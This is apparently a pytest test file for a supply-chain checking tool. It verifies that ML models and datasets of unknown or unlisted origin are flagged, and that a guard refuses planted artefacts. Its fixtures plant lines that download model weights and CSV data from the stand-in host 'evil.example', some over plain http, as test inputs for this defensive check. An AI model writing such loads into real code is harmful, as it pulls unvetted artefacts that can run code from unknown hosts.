"""Requirements 1.5, 2.4 and 4.5: nothing that is used is left untrusted, and the guard refuses what it has to."""

from __future__ import annotations

from pathlib import Path

import pytest

from supplychain import drills, gate
from supplychain.assessment import replay
from supplychain.control import load
from supplychain.model.finding import Finding, Observation, Outcome
from supplychain.model.gate import Known
from supplychain.model.policy import Gate
from supplychain.report.sarif import _rows as sarif_rows
from supplychain.report.view import View
from tests import gating
from tests.acceptance.breaks import BGE, Change, plants
from tests.support import BuiltTarget, Outcomes, run_suite

EARLIER = {"1.5": ("1.1", "1.2", "1.3", "1.4"), "4.5": ("4.1", "4.2", "4.3", "4.4")}
NEW = "app/more.py"


def rows(found: Outcomes, requirement: str) -> list[Observation]:
    return [row for row in found[requirement].observations if not row.component.startswith("guard:")]


def standing(found: Outcomes, component: str, requirement: str) -> tuple[str, str]:
    """Return the rule that the findings of a run ask for, and the requirements that it has to name: an oracle."""
    failed, still_open = [], []
    for name in EARLIER[requirement]:
        outcomes = {row.outcome for row in found[name].observations if row.component == component}
        if Outcome.FAIL in outcomes and found[name].outcome is not Outcome.ERROR:
            failed.append(name)
        elif not outcomes or Outcome.UNDETERMINED in outcomes or found[name].outcome is Outcome.ERROR:
            still_open.append(name)
    if failed:
        return "untrusted", ", ".join(failed)
    return ("not-decided", ", ".join(still_open)) if still_open else ("trusted", ", ".join(EARLIER[requirement]))


MODELS: dict[str, tuple[Change, str, int]] = {
    "a model of an unknown host": (
        plants(NEW, "import torch\nW = torch.hub.load_state_dict_from_url('https://evil.example/m.pth')\n"),
        "model:url/evil.example/m.pth",
        2,
    ),
    "a model of an unlisted owner": (
        plants(NEW, 'import torch\ntorch.hub.load("someuser/repo", "net")\n'),
        "model:pytorch-hub/someuser/repo",
        2,
    ),
    "a model over plain http": (
        plants(NEW, "import torch\nW = torch.hub.load_state_dict_from_url('http://evil.example/m.pth')\n"),
        "model:url/evil.example/m.pth",
        2,
    ),
    "a file of unknown origin": (
        plants("models/other.safetensors", b'\x10\0\0\0\0\0\0\0{"a":1}        '),
        "model:file/models/other.safetensors",
        0,
    ),
}


@pytest.mark.parametrize("name", MODELS)
def test_a_model_that_is_left_untrusted_is_named_with_its_place(name: str, target: BuiltTarget) -> None:
    change, component, line = MODELS[name]
    change(target)
    found = run_suite(target, drills=True)
    (row,) = [row for row in rows(found, "1.5") if row.component == component]
    rule, names = standing(found, component, "1.5")
    assert row.rule == rule != "trusted"
    assert f"by {names}" in row.message
    assert names in row.remedy
    assert row.at is not None
    assert (row.at.line or 0) == line
    if line:
        assert row.at.file == NEW
        assert (row.rule, found["1.5"].outcome) == ("untrusted", Outcome.FAIL)


def test_a_setting_that_sends_every_model_elsewhere_leaves_them_untrusted(target: BuiltTarget) -> None:
    found = run_suite(target.plant(".env", "HF_ENDPOINT=https://hf-mirror.com\n"), drills=True)
    (row,) = [row for row in rows(found, "1.5") if row.component == BGE]
    assert (row.rule, row.message.split(" by ")[1].split(", ")[0]) == ("untrusted", "1.1")


@pytest.mark.parametrize(
    ("code", "requirement", "rule"),
    [
        (
            "import sys\nfrom transformers import AutoModel\nAutoModel.from_pretrained(sys.argv[1])\n",
            "1.5",
            "unresolved",
        ),
        ("import sys\nfrom datasets import load_dataset\nload_dataset(sys.argv[1])\n", "4.5", "unresolved"),
        ("def broken(:\n", "1.5", "not-read"),
        ("def broken(:\n", "4.5", "not-read"),
    ],
)
def test_what_may_hide_a_component_leaves_it_open(code: str, requirement: str, rule: str, target: BuiltTarget) -> None:
    found = run_suite(target.plant(NEW, code), drills=True)
    told = [row for row in rows(found, requirement) if row.at and row.at.file == NEW]
    assert [(row.rule, row.outcome) for row in told] == [(rule, Outcome.UNDETERMINED)]
    assert told[0].remedy


@pytest.mark.parametrize(
    "code",
    [
        "from datasets import load_dataset\nload_dataset('anon8231489123/ShareGPT_Vicuna_unfiltered')\n",
        "import pandas\npandas.read_csv('http://evil.example/rows.csv')\n",
        "from datasets import load_dataset\nload_dataset('mteb/banking77', revision='main')\n",
        "import pandas\npandas.read_csv('https://raw.githubusercontent.com/a/b/main/rows.csv')\n",
    ],
)
def test_a_dataset_that_is_left_untrusted_is_named_with_its_place(code: str, target: BuiltTarget) -> None:
    found = run_suite(target.plant(NEW, code), drills=True)
    for row in rows(found, "4.5"):
        rule, names = standing(found, row.component, "4.5")
        assert row.rule == rule
        assert names in row.message
        assert row.at is not None
        assert row.at.line is not None
    assert any(row.at and row.at.file == NEW for row in found["4.1"].observations) or "no check" in found["4.1"].reason
    assert found["4.5"].outcome is not Outcome.PASS


def test_each_component_of_production_has_one_row(sound: Outcomes) -> None:
    for requirement in ("1.5", "4.5"):
        named = [row.component for row in rows(sound, requirement)]
        assert len(named) == len(set(named)) == 1
        (row,) = rows(sound, requirement)
        assert row.rule == standing(sound, row.component, requirement)[0]


def test_the_drills_ran_over_the_targets_own(sound: Outcomes) -> None:
    (row,) = sound["2.4"].observations
    assert (sound["2.4"].outcome, row.rule) == (Outcome.PASS, "drill-held")
    assert "it refused 3 and accepted 1 as planted, on models/intent.safetensors" in row.message
    assert "not that production code calls it" in row.message
    assert row.evidence == (sound.case.drills[0].guard,)
    assert {row.rule for name in ("1.5", "4.5") for row in sound[name].observations if row.at is None} == {"drill-held"}


BROKEN = {
    "accepts everything": ("def main(", "def main(arguments=None):\n    return 0\n\n\ndef _main("),
    "moves nothing": ("        return self._move(problem, digest)", "        return problem"),
    "writes no deny record": ("                    _append(descriptor, line)", "                    pass"),
    "knows every source": (
        "    elif component not in known.sources:\n        problem = ",
        "    elif component not in known.sources:\n        return\n        problem = ",
    ),
}


@pytest.mark.parametrize("name", BROKEN)
def test_a_guard_that_is_broken_fails_what_rests_on_it_and_nothing_else(
    name: str, target: BuiltTarget, sound: Outcomes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    old, new = BROKEN[name]
    text = drills.GUARD.read_text()
    assert text.count(old) == 1
    (tmp_path / "guard.py").write_text(text.replace(old, new))
    monkeypatch.setattr(drills, "GUARD", tmp_path / "guard.py")
    found = run_suite(target, drills=True)
    failing = {r for r in ("1.5", "2.4", "4.5") if any(row.rule == "drill-failed" for row in found[r].observations)}
    expected = {"1.5", "4.5"} if name == "knows every source" else {"2.4", "4.5"}
    assert failing == (expected if name in {"knows every source", "moves nothing"} else {"1.5", "2.4", "4.5"})
    assert found.unlike(sound) <= {"1.5", "2.4", "4.5", "10.5"}
    assert {found[requirement].outcome for requirement in failing} == {Outcome.FAIL}
    assert found["10.5"].outcome is Outcome.FAIL


def test_a_recorded_run_is_decided_again_without_a_drill(sound: Outcomes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(drills, "run", lambda *_: pytest.fail("a replay started the guard"))
    again = replay(sound.case)
    assert {name: again[name] for name in ("1.5", "2.4", "4.5")} == {
        name: sound[name] for name in ("1.5", "2.4", "4.5")
    }


def of_rule(requirement: str, rule: str) -> dict[str, Finding]:
    outcome = load().requirements[requirement].rules[rule].outcome
    return gating.of(requirement, [gating.row(requirement, outcome, "guard:untrusted model", "", rule=rule)])


@pytest.mark.parametrize("requirement", ["1.5", "4.5"])
@pytest.mark.parametrize(
    ("rule", "blocks"),
    [
        ("drill-failed", True),
        ("target-changed", True),
        ("no-drill", True),
        ("untrusted", False),
        ("not-decided", False),
    ],
)
def test_the_gate_decides_on_the_drill_and_leaves_what_is_repeated_out(
    rule: str, blocks: bool, requirement: str, sound: Outcomes
) -> None:
    found = of_rule(requirement, rule)
    result = gate.decide(found, Known(), Gate(), gating.NAMES, gating.NOW)
    assert [(item.requirement, item.row.rule) for item in result.blocking] == ([(requirement, rule)] if blocks else [])
    assert result.holds is not blocks
    shown = {(item.id, row.rule) for item, _, row in sarif_rows(View(sound.case, found, "run"))}
    assert ((requirement, rule) in shown) is blocks
    known = gate.accepted(found, Known(), Gate(), gating.NAMES, gating.NOW, gating.SEC)
    assert gate.decide(found, known, Gate(), gating.NAMES, gating.NOW).holds
    repaired = gate.decide(gating.findings(), known, Gate(), gating.NAMES, gating.NOW)
    assert bool(repaired.stale) is (blocks and rule != "no-drill"), "what was repaired leaves the list"
